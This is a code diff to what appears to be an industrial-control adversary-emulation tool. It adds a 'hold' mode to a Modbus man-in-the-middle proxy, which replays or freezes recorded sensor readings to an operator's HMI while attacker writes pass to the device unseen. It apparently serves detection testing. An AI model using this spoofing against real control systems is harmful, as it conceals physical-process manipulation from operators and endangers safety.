@@ -6,7 +6,9 @@ device and keeps each read response per ``(unit, function, address, count)``. Af
 :meth:`ReplayProxy.replay` it answers those reads itself from the recording, looping the recorded
 responses in order and stamping the HMI's transaction id on them, so the operator keeps seeing
 normal values (Spoof Reporting Message T0856, Manipulation of View T0832) while writes are still
-forwarded and, with ``inject_writes``, the attacker's own writes go to the device unseen.
+forwarded and, with ``inject_writes``, the attacker's own writes go to the device unseen. With
+``hold`` the proxy answers every recorded read with its *last* recorded response instead: the
+HMI's view freezes (the cruder spoof, which a frozen-sensor check sees and a repeat check cannot).
 
 Frames are parsed and re-framed with Interlock's Modbus codec rather than pymodbus: the proxy
 must pass through whatever the HMI sends, byte for byte, and account for every frame it sends
@@ -103,8 +105,9 @@ class ReplayProxy:
     def __init__(self, listen: tuple[str, int], upstream: tuple[str, int], *, boundary: Boundary,
                  inject_writes: Sequence[tuple[int, int]] = (), unit: int | None = None,
                  now: Callable[[], float] = time.time, timeout_s: float = 2.0,
-                 upstream_source: str | None = None) -> None:
+                 upstream_source: str | None = None, hold: bool = False) -> None:
         self.listen = listen
+        self.hold = hold
         # ARP poisoning relays the victim's frames with the victim's own IP address; on loopback
         # the proxy does the same by binding its upstream side to that address when given.
         self.upstream_source = upstream_source
@@ -201,7 +204,8 @@ class ReplayProxy:
                     answers = self.recording[key]
                     i = self._cursor.get(key, 0)
                     self._cursor[key] = i + 1
-                    spoof = build_adu(tid, unit, answers[i % len(answers)])  # the HMI's transaction id
+                    recorded = answers[-1] if self.hold else answers[i % len(answers)]
+                    spoof = build_adu(tid, unit, recorded)  # the HMI's transaction id
                     replay.sent(spoof, request=False)
                     replay.spoofed += 1
                     writer.write(spoof)
@@ -296,7 +300,8 @@ class ReplayProxy:
                                      "responses_recorded": sum(len(v) for v in self.recording.values())}))
         if self._replay is not None:
             out.append(self._action("mitm.replay", REPLAY_IDS, self._replay,
-                                    {"spoofed": self._replay.spoofed, "forwarded": self._replay.requests}))
+                                    {"spoofed": self._replay.spoofed, "forwarded": self._replay.requests,
+                                     "hold": self.hold}))
         if self._inject is not None:
             out.append(self._action("mitm.inject", INJECT_IDS, self._inject,
                                     {"writes": [list(w) for w in self.inject_writes]}))
@@ -310,6 +315,6 @@ async def _not_standalone(ctx: object) -> list[Action]:
 
 TECHNIQUES: tuple[Technique, ...] = (
     technique("mitm.replay", REPLAY_IDS, "modbus", "Adversary-in-the-middle: record the HMI's reads, "
-              "then replay them while writes pass (or are injected)",
-              {"record": 120.0, "inject_writes": (), "unit": None}, _not_standalone),
+              "then replay them (or, with hold, the last one) while writes pass (or are injected)",
+              {"record": 120.0, "inject_writes": (), "unit": None, "hold": False}, _not_standalone),
 )
